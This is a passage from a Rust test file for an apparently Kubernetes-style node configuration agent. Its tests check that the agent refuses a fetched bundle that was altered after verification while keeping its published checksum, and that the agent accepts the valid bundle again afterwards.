                            hashing.handle_timeout(now);
                        }
                        None => {
                            now = now + Duration::from_secs(60);
                            skipping.handle_wake(now);
                            hashing.handle_wake(now);
                        }
                    }
                    None
                }
                Some(AgentAction::FetchBundle) => {
                    Some(AgentInput::Bundle(fetched(&base, &m.fetch)))
                }
                Some(AgentAction::ReadNode) => Some(AgentInput::Node(Ok(Some(NodeView {
                    resource_version: rv.to_string(),
                    annotations: annotations.clone().into(),
                })))),
                Some(AgentAction::PatchNode(patch)) => {
                    rv += 1;
                    patch.apply_to(&mut annotations);
                    Some(AgentInput::Patched(PatchOutcome::Applied {
                        resource_version: rv.to_string(),
                    }))
                }
                Some(AgentAction::RunStep { name }) => Some(AgentInput::StepFinished(StepOutcome {
                    step: name,
                    exit_code: Some(i32::from(m.fault % 5 == 0)),
                    stderr: String::new(),
                })),
                Some(_) => None,
            };
            if let Some(input) = input {
                skipping.handle_input(input.clone(), now);
                hashing.handle_input(input, now);
            }
            prop_assert_eq!(observed(&skipping), observed(&hashing));
        }
    }
}

/// A bundle altered after the agent verified it, its published checksum kept, is refused:
/// not hashing again a bundle verified last looks at the steps, not only at the checksum.
#[test]
fn an_altered_bundle_under_a_verified_checksum_is_refused() {
    // A bundle of several steps (so that reversing them alters it).
    let bundle = (0..)
        .map(|seed| bundle_of(seed, false))
        .find(|b| b.steps.len() >= 3)
        .expect("a bundle of three steps");
    let files = StateFiles::applied(&bundle.checksum, BTreeSet::new(), BTreeMap::new());
    let now = Timestamp::from_secs(1_000);
    let mut agent = Agent::new(config(), files, now);
    assert_eq!(agent.poll_action(), Some(AgentAction::FetchBundle));
    agent.handle_input(AgentInput::Bundle(Ok(bundle.clone())), now);
    assert!(agent.last_error().is_none());
    let node = NodeView {
        resource_version: "1".into(),
        annotations: [(
            keys::ANNOTATION_CONFIGURATION_CHECKSUM.to_owned(),
            bundle.checksum.clone(),
        )]
        .into(),
    };
    while let Some(action) = agent.poll_action() {
        if action == AgentAction::ReadNode {
            agent.handle_input(AgentInput::Node(Ok(Some(node.clone()))), now);
        }
    }
    assert!(agent.is_up_to_date(), "{:?}", agent.status());
    for alter in [Fetched::Tampered, Fetched::KeyChanged, Fetched::Reversed] {
        agent.handle_wake(now);
        assert_eq!(agent.poll_action(), Some(AgentAction::FetchBundle));
        let altered = fetched(&bundle, &alter).expect("a bundle");
        assert_eq!(altered.checksum, bundle.checksum);
        agent.handle_input(AgentInput::Bundle(Ok(altered)), now);
        assert!(
            matches!(
                agent.status(),
                AgentStatus::Backoff {
                    error: AgentError::BundleRejected { .. }
                }
            ),
            "{alter:?} accepted: {:?}",
            agent.status()
        );
        while agent.poll_action().is_some() {}
        // The valid bundle is accepted again afterwards.
        let later = agent.next_deadline().expect("a backoff");
        agent.handle_timeout(later);
        assert_eq!(agent.poll_action(), Some(AgentAction::FetchBundle));
        agent.handle_input(AgentInput::Bundle(Ok(bundle.clone())), later);
        while let Some(action) = agent.poll_action() {
            if action == AgentAction::ReadNode {
                agent.handle_input(AgentInput::Node(Ok(Some(node.clone()))), later);
            }
        }
        assert!(agent.is_up_to_date(), "{:?}", agent.status());
    }
}
